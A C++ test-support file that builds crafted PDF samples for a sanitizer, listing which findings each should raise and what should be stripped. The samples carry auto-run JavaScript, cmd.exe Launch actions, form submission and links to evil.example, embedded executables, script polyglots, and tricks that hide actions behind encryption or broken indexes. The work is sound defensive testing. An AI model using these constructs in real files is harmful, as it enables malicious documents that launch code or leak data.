#include "tests/support/pdf_samples.h"

#include <deque>
#include <string>
#include <vector>

#include "tests/support/image_builder.h"
#include "tests/support/pdf_builder.h"

namespace mugai::testing {
namespace {

using B = PdfBuilder;
using std::string;

template <auto Change>
Buffer plainly() {
  B b;
  Change(b);
  return b.build();
}
template <auto Change>
Buffer disguised() {
  B b;
  b.hidden = true;
  Change(b);
  return b.build();
}

struct Table {
  std::vector<Sample> samples;
  std::deque<string> names;

  using Words = std::vector<std::string_view>;
  // Twice.
  template <auto Change>
  void add(const string& name, Words ids, Words gone = {}, Words kept = {"INSIDE"}, bool refused = false) {
    only<plainly<Change>>(name, ids, gone, kept, refused);
    only<disguised<Change>>(name + "-disguised", std::move(ids), std::move(gone), std::move(kept), refused);
  }
  template <auto Make>
  void only(const string& name, Words ids, Words gone = {}, Words kept = {"INSIDE"}, bool refused = false) {
    names.push_back("pdf/" + name);
    samples.push_back({names.back(), "a.pdf", refused, std::move(ids), std::move(gone), std::move(kept), Make});
  }
};

const char kSecond[] = "4 0 obj\n<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 700 Td (LATER) Tj ET        \nendstream\nendobj\n";

// -- the file itself

void add_structure(Table& t) {
  t.add<[](B& b) { b.before = "JUNKBEFORE\n"; }>("junk-before", {"PDF-001"}, {"JUNKBEFORE"});
  t.add<[](B& b) { b.header = "%PDF-9.9\n"; }>("odd-version", {"PDF-001"}, {"9.9"});
  t.add<[](B& b) { b.after = "PAYLOADBEHIND"; }>("bytes-behind", {"PDF-002"}, {"PAYLOADBEHIND"});
  t.only<plainly<[](B& b) { b.update = kSecond; }>>("update", {"PDF-003", "PDF-004"}, {"INSIDE"}, {"LATER"});
  t.only<plainly<[](B& b) { b.broken_index = true; }>>("broken-index", {"PDF-005"});
  t.only<plainly<[](B& b) { b.trailer("/XRefStm 15"); }>>("hybrid", {"PDF-005"});
  t.only<plainly<[](B& b) {
    b.doubled = kSecond;
    b.broken_index = true;
  }>>("twice-without-index", {"PDF-006"}, {}, {}, true);
  t.only<plainly<[](B& b) { b.doubled = kSecond; }>>("twice", {"PDF-006"}, {"LATER"});
  t.add<[](B& b) { b.stream(20, "/Type /ObjStm /N 1 /First 5 /Extends 20 0 R", "30 0 (PACKED)"); }>("objstm-extends", {"PDF-007"}, {"PACKED"});
  t.add<[](B& b) { b.page("/Rotate 0 /Rotate 90"); }>("key-twice", {"PDF-008"});
  t.only<plainly<[](B& b) { b.catalog("/Open#41ction << /S /J#61vaScript /#4a#53 (app.alert) >>"); }>>("escaped-names", {"PDF-009", "PDF-035"}, {"app.alert", "JavaScript"});
  t.only<plainly<[](B& b) { b.catalog("/Lang (\\152\\141\\\n-JP)"); }>>("octal-string", {"PDF-010"}, {}, {"INSIDE", "ja-JP"});
  t.only<plainly<[](B& b) { b.catalog("/Lang <6A612D4A5>"); }>>("odd-hexadecimal", {"PDF-010"}, {}, {"INSIDE", "ja-JP"});
  t.only<plainly<[](B& b) { b.set(30, "(x)\n% A HIDDEN COMMENT"); }>>("comment", {"PDF-011"}, {"HIDDEN COMMENT"});
  t.only<plainly<[](B& b) { b.set(4, "<< /Length 44 >>\nstream\rBT /F1 12 Tf 72 700 Td (INSIDE) Tj ET       \nendstream"); }>>("stream-cr", {"PDF-011"});
  t.only<plainly<[](B& b) { b.set(4, "<< /Length 4444 >>\nstream\nBT /F1 12 Tf 72 700 Td (INSIDE) Tj ET\nendstream"); }>>("wrong-length", {"PDF-012"});
  t.only<plainly<[](B& b) { b.set(4, "<< /Length 4 0 R >>\nstream\nBT /F1 12 Tf 72 700 Td (INSIDE) Tj ET\nendstream"); }>>("length-of-itself", {"PDF-012"}, {}, {});
  t.add<[](B& b) { b.set(4, "<< /Length 3 /F (http://evil.example/x) /FFilter /FlateDecode >>\nstream\nq Q\nendstream"); }>("external-stream", {"PDF-013"}, {"evil.example", "FFilter"}, {});
  t.add<[](B& b) { b.trailer("/AuthCode << /X (CODE) >> /DocChecksum /ABC"); }>("trailer-keys", {"PDF-014"}, {"CODE", "DocChecksum"});
  t.add<[](B& b) { b.set(2, "<< /Type /Pages /Kids [3 0 R 2 0 R 3 0 R 77 0 R] /Count -9 >>"); }>("page-tree-loop", {"PDF-015"});
  t.add<[](B& b) { b.catalog("/Outlines 20 0 R").set(20, "<< /First 21 0 R /Last 21 0 R >>").set(21, "<< /Title (ITEM) /Next 21 0 R /First 21 0 R >>"); }>("outline-loop", {"PDF-016"}, {}, {"INSIDE", "ITEM"});
  t.add<[](B& b) { b.set(20, "<< /Secret (UNREACHED) >>"); }>("unreferenced", {"PDF-017"}, {"UNREACHED"});
  t.only<plainly<[](B& b) { b.set(0, "<< /Linearized 1 /L 1 /H [1 1] /O 3 /E 1 /N 1 /T 1 >>"); }>>("linearized", {"PDF-018"}, {"Linearized"});
  t.add<[](B& b) { b.catalog("/Lang " + string(90, '[') + string(90, ']')); }>("deep-arrays", {"PDF-019"});
  t.add<[](B& b) { b.page("/Rotate 99999999999"); }>("huge-number", {"PDF-019"});
  t.add<[](B& b) { b.set(4, "<< /Length 3 /Filter [/A85 /A85 /A85 /A85 /A85] >>\nstream\n~> \nendstream"); }>("many-filters", {"PDF-020"}, {}, {}, true);
  t.add<[](B& b) { b.catalog("/Version /2.0 /Extensions << /ADBE << /BaseVersion /1.7 /ExtensionLevel 3 >> >> /Requirements [<< /S /EnableJavaScripts >>]"); }>("extensions", {"PDF-021"}, {"ADBE", "EnableJavaScripts"});
  t.add<[](B& b) { b.before = "Content-Type: x/y\n<html><body>WEB</body></html>\n"; }>("html-before", {"PDF-022"}, {"WEB"});
  t.only<plainly<[](B& b) { b.set(30, "(x)\n% <html><script>WEB</script>"); }>>("html-comment", {"PDF-022"}, {"WEB"});
  t.only<[] { const string s = "\4%!PS-Adobe-3.0\n%%Title: a program for a printer\n% here %PDF-1.4\n/x { } def\n"; return Buffer(s.begin(), s.end()); }>("postscript", {"PDF-085"}, {}, {}, true);
  t.only<[] { const string s = "%FDF-1.2\n1 0 obj << /FDF << /F (http://evil.example/a.pdf) >> >> endobj\n% like %PDF-1.4\n"; return Buffer(s.begin(), s.end()); }>("form-data", {"PDF-084"}, {}, {}, true);
  t.only<plainly<[](B& b) { b.catalog("/Lang (ja)"); }>>("clean", {}, {}, {"INSIDE", "ja"});
}

// -- encryption

template <int Revision>
Buffer encrypted() {
  return encrypted_pdf(B().build(), Revision, "");
}
Buffer with_text(Buffer file, const string& from, const string& to) {
  string text(as_text(file));
  const std::size_t at = text.find(from);
  if (at != string::npos) text.replace(at, from.size(), to);
  return {text.begin(), text.end()};
}

void add_encryption(Table& t) {
  t.only<encrypted<3>>("encrypted-r3", {"PDF-023"}, {"Encrypt"});
  t.only<encrypted<4>>("encrypted-r4", {"PDF-023"}, {"Encrypt"});
  t.only<encrypted<6>>("encrypted-r6", {"PDF-023"}, {"Encrypt"});
  t.only<encrypted<2>>("encrypted-r2", {"PDF-023", "PDF-027"}, {"Encrypt"});
  t.only<[] { return encrypted_pdf(B().build(), 6, "secret"); }>("password", {"PDF-024"}, {}, {}, true);
  t.only<plainly<[](B& b) { b.trailer("/Encrypt << /Filter /Custom /V 9 /R 9 >>"); }>>("custom-handler", {"PDF-024"}, {}, {}, true);
  t.only<[] { return with_text(encrypted<4>(), "/StmF /StdCF", "/StmF /Identity"); }>("partly-encrypted", {"PDF-025"}, {}, {}, true);
  t.add<[](B& b) { b.catalog("/AF [<< /Type /Filespec /AFRelationship /EncryptedPayload >>]"); }>("encrypted-payload", {"PDF-026"}, {}, {}, true);
}

// -- actions

void add_actions(Table& t) {
  t.add<[](B& b) { b.catalog("/OpenAction << /S /JavaScript /JS (app.alert) >>"); }>("open-action", {"PDF-028", "PDF-035"}, {"OpenAction", "app.alert", "JavaScript"});
  t.add<[](B& b) { b.catalog("/OpenAction 20 0 R").set(20, "<< /S /JavaScript /JS 21 0 R >>").stream(21, "", "app.alert"); }>("open-action-indirect", {"PDF-028", "PDF-035"}, {"app.alert", "JavaScript"});
  t.add<[](B& b) { b.catalog("/OpenAction [3 0 R /Fit]"); }>("open-at-page", {}, {}, {"INSIDE", "OpenAction", "Fit"});
  t.add<[](B& b) { b.catalog("/AA << /WC << /S /JavaScript /JS (app.alert) >> >>"); }>("catalog-aa", {"PDF-029", "PDF-035"}, {"app.alert", "/AA"});
  t.add<[](B& b) { b.page("/AA << /O << /S /Launch /F (cmd.exe) >> >>"); }>("page-aa", {"PDF-030", "PDF-036"}, {"cmd.exe", "/AA"});
  t.add<[](B& b) { b.annotation("/Subtype /Square /AA << /E << /S /JavaScript /JS (app.alert) >> >>"); }>("annotation-aa", {"PDF-031"}, {"app.alert"}, {"INSIDE", "Square"});
  t.add<[](B& b) { b.set(20, "<< /T (parent) /FT /Tx /AA << /K << /S /JavaScript /JS (app.alert) >> >> /Kids [21 0 R] >>").set(21, "<< /Parent 20 0 R /T (kid) >>").catalog("/AcroForm << /Fields [20 0 R] /CO [20 0 R] >>"); }>("field-aa", {"PDF-032"}, {"app.alert", "/CO"}, {"INSIDE", "parent"});
  t.add<[](B& b) { b.annotation("/Subtype /Link /PA << /S /URI /URI (http://evil.example) >>"); }>("link-pa", {"PDF-033"}, {"evil.example"});
  t.add<[](B& b) { b.action("/S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (app.alert) >>"); }>("next", {"PDF-034", "PDF-035"}, {"app.alert", "Next"}, {"INSIDE", "GoTo"});
  t.add<[](B& b) { b.catalog("/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert) >>] >> >>"); }>("script-names", {"PDF-035"}, {"app.alert", "JavaScript"});
  t.add<[](B& b) { b.action("/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>"); }>("launch", {"PDF-036"}, {"cmd.exe", "Launch"});
  t.add<[](B& b) { b.action("/S /URI /URI (file:///c:/windows/system32/calc.exe)"); }>("uri-file", {"PDF-037"}, {"calc.exe"});
  t.add<[](B& b) { b.action("/S /URI /URI (\\152avascript:app.alert)").catalog("/URI << /Base (http://evil.example/) >>"); }>("uri-script", {"PDF-037"}, {"app.alert", "evil.example"});
  t.add<[](B& b) { b.action("/S /URI /URI (https://example.jp/)"); }>("uri-good", {}, {}, {"INSIDE", "https://example.jp/"});
  t.add<[](B& b) { b.action("/S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit]"); }>("goto-remote", {"PDF-038"}, {"evil", "GoToR"});
  t.add<[](B& b) { b.action("/S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit]"); }>("goto-embedded", {"PDF-039"}, {"GoToE", "a.pdf"});
  t.add<[](B& b) { b.action("/S /Hide /T (field)"); }>("hide", {"PDF-040"}, {"Hide"});
  t.add<[](B& b) { b.action("/S /SetOCGState /State [/OFF]"); }>("set-state", {"PDF-040"}, {"SetOCGState"});
  t.add<[](B& b) { b.action("/S /Thread /F (\\\\\\\\evil\\\\x) /D 0"); }>("thread", {"PDF-041"}, {"evil"});
  t.add<[](B& b) { b.action("/S /SubmitForm /F << /FS /URL /F (http://evil.example/) >>"); }>("submit", {"PDF-042"}, {"evil.example", "SubmitForm"});
  t.add<[](B& b) { b.action("/S /ImportData /F (c:/secret.fdf)"); }>("import", {"PDF-043"}, {"secret.fdf"});
  t.add<[](B& b) { b.action("/S /Rendition /JS (app.alert) /OP 0"); }>("rendition", {"PDF-044", "PDF-035"}, {"app.alert"});
  t.add<[](B& b) { b.action("/S /RichMediaExecute /CMD << /C (play) >>"); }>("rich-media-execute", {"PDF-045"}, {"RichMediaExecute"});
  t.add<[](B& b) { b.action("/S /Named /N /Print"); }>("named-print", {"PDF-046"}, {"Print"});
  t.add<[](B& b) { b.action("/S /Named /N /NextPage"); }>("named-next", {}, {}, {"INSIDE", "NextPage"});
  t.add<[](B& b) { b.action("/S /Brandnew /X (thing)"); }>("unknown-action", {"PDF-047"}, {"Brandnew"});
  t.add<[](B& b) { b.annotation("/Subtype /Link /Dest << /S /Launch /F (cmd.exe) >>"); }>("dest-action", {"PDF-047"}, {"cmd.exe"});
  t.add<[](B& b) { b.catalog("/Names << /Dests << /Names [(a) << /D [3 0 R /Fit] /SD [3 0 R] >> (b) << /S /Launch /F (cmd.exe) >>] >> >>"); }>("named-destinations", {"PDF-048", "PDF-036"}, {"cmd.exe", "/SD"}, {"INSIDE", "Dests", "Fit"});
}

// -- the same behind obstacles of the file itself

const char kScript[] = "/OpenAction << /S /JavaScript /JS (app.alert) >>";

template <int Revision, bool Hidden>
Buffer encrypted_script() {
  B b;
  b.hidden = Hidden;
  b.catalog(kScript).catalog("/Lang (ja)");
  return encrypted_pdf(b.build(), Revision, "");
}

// A table and a stream beside it (7.5.8.4): the script's object is named by the stream alone.
string hybrid_with(std::size_t script, std::size_t index) {
  const auto ten = [](std::size_t value) {
    const string digits = std::to_string(value);
    return string(10 - digits.size(), '0') + digits;
  };
  B b;
  b.catalog("/OpenAction 40 0 R").trailer("/XRefStm " + ten(index));
  b.doubled = "40 0 obj\n<< /S /JavaScript /JS (app.alert) >>\nendobj\n41 0 obj\n<< /Type /XRef /Size 42 /W [1 4 1] /Index [40 1] /Length 6 >>\nstream\n";
  b.doubled += '\1' + u32be(static_cast<std::uint32_t>(script)) + '\0';
  b.doubled += "\nendstream\nendobj\n";
  return b.text();
}
Buffer hybrid_script() {
  const string first = hybrid_with(0, 0);
  const string text = hybrid_with(first.find("40 0 obj"), first.find("41 0 obj"));
  return {text.begin(), text.end()};
}

void add_obstacles(Table& t) {
  t.only<encrypted_script<3, false>>("encrypted-script", {"PDF-023", "PDF-028", "PDF-035"}, {"app.alert", "OpenAction"});
  t.only<encrypted_script<6, true>>("encrypted-script-packed", {"PDF-023", "PDF-028", "PDF-035"}, {"app.alert", "OpenAction"});
  t.only<hybrid_script>("hybrid-script", {"PDF-005", "PDF-035"}, {"app.alert", "OpenAction", "XRefStm"});
  t.only<plainly<[](B& b) { b.broken_index = true; b.catalog(kScript); }>>("broken-index-script", {"PDF-005", "PDF-035"}, {"app.alert", "OpenAction"});
  t.only<plainly<[](B& b) { b.update = string("1 0 obj\n<< /Type /Catalog /Pages 2 0 R ") + kScript + " >>\nendobj\n"; }>>("update-script", {"PDF-003", "PDF-035"}, {"app.alert", "OpenAction"});
  t.add<[](B& b) { b.before = "<html><script>WEB</script>\n"; b.after = "<script>BEHIND</script>"; b.catalog(kScript); }>("polyglot-script", {"PDF-002", "PDF-022", "PDF-035"}, {"WEB", "BEHIND", "app.alert"});
  t.add<[](B& b) { b.annotation("/Subtype 30 0 R /A 31 0 R").set(30, "/Link").set(31, "<< /S 32 0 R /F 33 0 R >>").set(32, "/Launch").set(33, "(cmd.exe)"); }>("launch-indirect", {"PDF-036"}, {"cmd.exe", "Launch"});
  t.add<[](B& b) { b.catalog("/OpenAction 30 0 R").set(30, "<< /S 31 0 R /JS 32 0 R >>").set(31, "/JavaScript").stream(32, "/Filter 33 0 R", "6170702E616C657274>").set(33, "[34 0 R]").set(34, "/ASCIIHexDecode"); }>("script-indirect", {"PDF-028", "PDF-035"}, {"app.alert", "6170702E616C657274", "JavaScript"});
  t.add<[](B& b) { b.stream(30, "/Type /XObject /Subtype /Form /BBox [0 0 99 20] /Resources << /Font << /F1 5 0 R >> >>", "/Tx BMC BT /F1 9 Tf (1000) Tj ET EMC").field("/FT /Tx /V (9000) /DA (/F1 9 Tf) /AP << /N 30 0 R >>"); }>("field-shows-other", {"PDF-004"}, {}, {"INSIDE", "1000", "9000"});
}

// -- files, media, forms

void add_embedded(Table& t) {
  t.add<[](B& b) { b.catalog("/Names << /EmbeddedFiles << /Names [(a.exe) 20 0 R] >> >>").set(20, "<< /Type /Filespec /F (a.exe) /EF << /F 21 0 R >> >>").stream(21, "/Type /EmbeddedFile", "MZPAYLOAD"); }>("embedded-file", {"PDF-049"}, {"a.exe", "MZPAYLOAD", "EmbeddedFile"});
  t.add<[](B& b) { b.catalog("/AF [<< /Type /Filespec /F (a.exe) /EF << /F 21 0 R >> >>]").stream(21, "", "MZPAYLOAD"); }>("associated-file", {"PDF-049"}, {"a.exe", "MZPAYLOAD"});
  t.add<[](B& b) { b.annotation("/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 21 0 R >> >>").stream(21, "", "MZPAYLOAD"); }>("file-annotation", {"PDF-050"}, {"MZPAYLOAD", "FileAttachment"});
  t.add<[](B& b) { b.catalog("/Collection << /View /D /Navigator << /SWF (FWS) >> >>"); }>("portfolio", {"PDF-051"}, {"Navigator", "Collection"});
  t.add<[](B& b) { b.annotation("/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 21 0 R] >> >> /AP << /N 22 0 R >>").stream(21, "", "FWSFLASH").stream(22, "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << >>", "0 0 9 9 re f"); }>("rich-media", {"PDF-052"}, {"FWSFLASH", "RichMedia"}, {"INSIDE", "Stamp"});
  t.add<[](B& b) { b.annotation("/Subtype /Screen /MK << >> /A << /S /Rendition /R << /C << /D (http://evil.example/a.mp4) >> >> >>"); }>("screen", {"PDF-053"}, {"evil.example", "Screen"});
  t.add<[](B& b) { b.catalog("/AcroForm << /Fields [] /XFA 20 0 R >>").stream(20, "", "<xdp:xdp><script>app.alert</script></xdp:xdp>"); }>("xfa", {"PDF-054"}, {"xdp", "XFA"});
  t.add<[](B& b) { b.catalog("/NeedsRendering true /AcroForm << /Fields [] /XFA [] >>"); }>("xfa-dynamic", {"PDF-054"}, {}, {}, true);
  t.add<[](B& b) { b.field("/FT /Tx /V (typed) /Ff 1048576 /RV (<b>rich</b>)"); }>("file-select", {"PDF-055"}, {"1048576", "rich"}, {"INSIDE", "typed"});
  t.add<[](B& b) { b.field("/FT /Tx /V (typed)"); }>("field", {}, {}, {"INSIDE", "typed", "AcroForm", "Widget"});
  t.add<[](B& b) { b.field("/FT /Sig /V << /Type /Sig /Contents <00> /Reference [<< >>] >> /AP << /N 22 0 R >>").stream(22, "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << >>", "0 0 9 9 re f").catalog("/Perms << /DocMDP 99 0 R >>"); }>("signature", {"PDF-056"}, {"Sig", "Reference", "DocMDP"}, {"INSIDE", "Stamp"});
  t.add<[](B& b) { b.annotation("/Subtype /Text /Contents (note) /RC (<body>RICH</body>)"); }>("rich-comment", {"PDF-057"}, {"RICH"}, {"INSIDE", "note"});
  t.add<[](B& b) { b.annotation("/Subtype /Unheard /Contents (note)"); }>("unknown-annotation", {"PDF-057"}, {"Unheard"});
  t.add<[](B& b) { b.annotation("/Subtype /PrinterMark"); }>("printer-mark", {"PDF-058"}, {"PrinterMark"});
  t.add<[](B& b) { b.set(20, "<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://evil.example/) >> >>").page("/Annots [20 0 R]"); }>("page-wide-link", {"PDF-059"}, {"evil.example"});
  t.add<[](B& b) { b.catalog("/OCProperties << /OCGs [20 0 R] /D << /OFF [20 0 R] /AS [<< /Event /Print >>] >> >>").set(20, "<< /Type /OCG /Name (layer) /Usage << /Print << /PrintState /ON >> >> >>"); }>("optional-content", {"PDF-060"}, {"PrintState", "/AS"}, {"INSIDE", "layer"});
}

// -- pages and their content

void add_content(Table& t) {
  t.add<[](B& b) { b.content("BT /F1 12 Tf 3 Tr (UNSEEN) Tj ET"); }>("invisible-text", {}, {}, {"INSIDE", "UNSEEN"});
  t.add<[](B& b) { b.set(5, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding /ToUnicode 20 0 R >>").stream(20, "", "/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfchar <49> <0058> endbfchar endcmap end end"); }>("text-spoof", {"PDF-062"});
  t.add<[](B& b) { b.image("/Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Alternates [<< /Image 4 0 R >>] /OPI << /1.3 << /F (ext) >> >>", "x"); }>("alternates", {"PDF-063"}, {"Alternates", "OPI"}, {"INSIDE", "DeviceGray"});
  t.add<[](B& b) { b.resources("/Properties << >>").set(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /P 20 0 R >> /Font << /F1 5 0 R >> >> >>").stream(20, "/Type /XObject /Subtype /PS", "(evil) run").content("/P Do"); }>("postscript-xobject", {"PDF-063"}, {"run", "/PS"});
  t.add<[](B& b) { b.catalog("/Metadata 20 0 R /PieceInfo << /AI << /Private (SECRET) >> >>").stream(20, "/Type /Metadata /Subtype /XML", "<x:xmpmeta>SECRET</x:xmpmeta>").trailer("/Info << /Title (Shown) /Author (SECRET) >>"); }>("metadata", {"PDF-064"}, {"SECRET", "PieceInfo"}, {"INSIDE", "Shown"});
  t.add<[](B& b) { b.catalog("/Names << /Templates << /Names [(t) 20 0 R] >> >>").set(20, "<< /Type /Template /Contents (UNREACHED) >>"); }>("templates", {"PDF-065"}, {"Templates", "UNREACHED"});
  t.add<[](B& b) { b.catalog("/Threads [<< /F << >> >>] /OutputIntents [<< /S /GTS_PDFX /Info (PRESS) >>]"); }>("threads", {"PDF-066"}, {"Threads", "PRESS"});
  t.add<[](B& b) { b.catalog("/ViewerPreferences << /HideToolbar true /FitWindow true >> /PageMode /FullScreen"); }>("full-screen", {"PDF-067"}, {"HideToolbar", "FullScreen"}, {"INSIDE", "FitWindow"});
  t.add<[](B& b) { b.page("/Trans << /S /Box >> /Dur 1"); }>("transition", {"PDF-068"}, {"Trans", "/Dur"});
  t.add<[](B& b) { b.page("/VP [<< /Type /Viewport /Measure << /Subtype /GEO >> >>]"); }>("viewport", {"PDF-069"}, {"Viewport", "GEO"});
  t.add<[](B& b) { b.page("/TemplateInstantiated /t /Hid true"); }>("hidden-page", {"PDF-070"}, {"TemplateInstantiated", "/Hid"});
  t.add<[](B& b) { b.content("FROB 1 2 BLAH BX 9 NEWOP EX Q Q q q"); }>("unknown-operators", {"PDF-082"}, {"FROB", "BLAH", "NEWOP"});
}

// -- pictures, fonts, colours

void add_pictures(Table& t) {
  t.add<[](B& b) { b.image("/Width 8 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode", "NOTJBIG2"); }>("jbig2", {"PDF-071"}, {"NOTJBIG2", "JBIG2Decode"});
  t.add<[](B& b) { b.image("/Width 8 /Height 1 /Filter /JPXDecode", "NOTJPX"); }>("jpx", {"PDF-072"}, {"NOTJPX", "JPXDecode"});
  t.add<[](B& b) { b.image("/Width 8 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode", make_jpeg(jpeg_segment(0xED, "Photoshop SECRET"), "BEHIND")); }>("jpeg-metadata", {"PDF-073"}, {"SECRET", "BEHIND"});
  t.add<[](B& b) { b.image("/Width 8 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 99999999 >>", "FAXFAX"); }>("fax-columns", {"PDF-074"}, {"FAXFAX", "99999999"});
  t.add<[](B& b) { b.set(4, "<< /Length 79 /Filter /ASCIIHexDecode >>\nstream\n4254202F46312031322054662037322037303020546420 28494E534944452920546A204554>\nendstream"); }>("hexadecimal-stream", {"PDF-075"}, {"ASCIIHexDecode"});
  t.only<plainly<[](B& b) { b.set(4, "<< /Length 17 /Filter /FlateDecode >>\nstream\nx\x9c\x03" + string("\0\0\0\0\x01", 5) + "BEHINDXYZ\nendstream"); }>>("bytes-behind-flate", {"PDF-076"}, {"BEHINDXYZ"}, {});
  t.add<[](B& b) { b.set(5, "<< /Type /Font /Subtype /TrueType /BaseFont /ABCDEF+Evil /FontDescriptor << /Type /FontDescriptor /FontName /ABCDEF+Evil /Flags 4 /FontFile2 20 0 R >> >>").stream(20, "", "SINGNOTAFONT"); }>("broken-font", {"PDF-077"}, {"SINGNOTAFONT"});
  t.add<[](B& b) { b.set(5, "<< /Type /Font /Subtype /Type3 /FontMatrix [1 0 0 1 0 (0\\); alert\\(1)] /FontBBox [0 0 1 1] /CharProcs << /a 20 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] >>").stream(20, "", "1 0 d0 0 0 1 1 re f"); }>("font-matrix", {"PDF-078"}, {"alert"}, {"INSIDE", "Type3"});
  t.add<[](B& b) { b.set(5, "<< /Type /Font /Subtype /Type1 /BaseFont /A#3Cscript#3Ealert#28#29 >>"); }>("font-name", {"PDF-079"}, {"<script>"}, {"INSIDE", "alert"});
  t.add<[](B& b) { b.resources("/ExtGState << /G << /TR 20 0 R /HT /Default /LW 2 >> >>").content("/G gs").stream(20, "/FunctionType 4 /Domain [0 1] /Range [0 1]", "{ 1 exch sub }"); }>("transfer-function", {"PDF-080"}, {"exch", "/TR"}, {"INSIDE", "/LW"});
  t.add<[](B& b) { b.resources("/ColorSpace << /C [/ICCBased 20 0 R] >>").content("/C cs 1 0 0 sc 0 0 9 9 re f").stream(20, "/N 3", "NOTAPROFILE"); }>("profile", {"PDF-081"}, {"NOTAPROFILE"}, {"INSIDE", "DeviceRGB"});
  t.add<[](B& b) { b.image("/Width 2 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8", "abcdSURPLUS"); }>("surplus-samples", {"PDF-083"}, {"SURPLUS"}, {"INSIDE", "abcd"});
  t.add<[](B& b) { b.image("/Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8", "abcd"); }>("huge-picture", {"PDF-083"}, {"60000"});
}

const Table& table() {
  static const Table kTable = [] {
    Table t;
    add_structure(t);
    add_encryption(t);
    add_actions(t);
    add_obstacles(t);
    add_embedded(t);
    add_content(t);
    add_pictures(t);
    return t;
  }();
  return kTable;
}

}  // namespace

std::span<const Sample> pdf_samples() {
  return table().samples;
}

}  // namespace mugai::testing
